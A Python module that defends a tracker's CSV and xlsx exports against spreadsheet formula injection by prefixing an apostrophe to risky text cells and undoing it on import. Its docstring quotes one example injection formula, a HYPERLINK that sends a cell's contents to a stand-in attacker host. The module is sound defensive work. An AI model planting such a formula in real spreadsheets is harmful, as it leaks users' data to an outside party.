"""Cells of the spreadsheets the tracker writes (every CSV and xlsx): text that a spreadsheet program would take for a
formula goes out inert.

A project named `=HYPERLINK("http://evil.example/?"&A1,"click")`, typed in a form or brought in by an import,
would otherwise become a live formula in someone's Excel: openpyxl writes a str starting with `=` as a formula, and
Excel evaluates `=`, `+`, `-` and `@` at the start of a CSV field (a tab or a carriage return before them too).
The tracker follows OWASP's advice on CSV injection: a text cell starting with one of those characters gets a
leading apostrophe (`'=HYPERLINK(…)`), in CSV and in xlsx alike, so the file says the same in both and no program
evaluates it. Only text is touched: numbers (a negative one included) and dates stay typed numbers and dates.

The import takes the apostrophe off again (`restore_text`), so an exported list comes back with its original text:
a text that starts with an apostrophe followed by one of those characters loses that one apostrophe. For that rule
to give back exactly what was exported, a text that already starts with apostrophes followed by one of those
characters (`'=x`) gets one more on the way out (`''=x`), and comes back as it was. docs/imports.md says the same.
"""
from datetime import date
from decimal import Decimal

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"


def _dangerous(text: str) -> bool:
    return text.lstrip(PREFIX).startswith(TRIGGERS)


def inert(value):
    """A value as a spreadsheet cell that no program evaluates: text starting with = + - @ tab or CR (after any
    apostrophes) gets a leading apostrophe; anything that is not text (a number, a date, None) is returned as it
    is. Every CSV and xlsx writer of the tracker passes its cells through here."""
    if isinstance(value, (int, float, Decimal, date)) or value is None:  # bool is an int; datetime is a date
        return value
    text = str(value)
    return PREFIX + text if _dangerous(text) else text


def restore_text(text: str) -> str:
    """The import's side: the text a cell held before `inert` (the one apostrophe it added taken off)."""
    if text.startswith(PREFIX) and _dangerous(text[1:]):
        return text[1:]
    return text
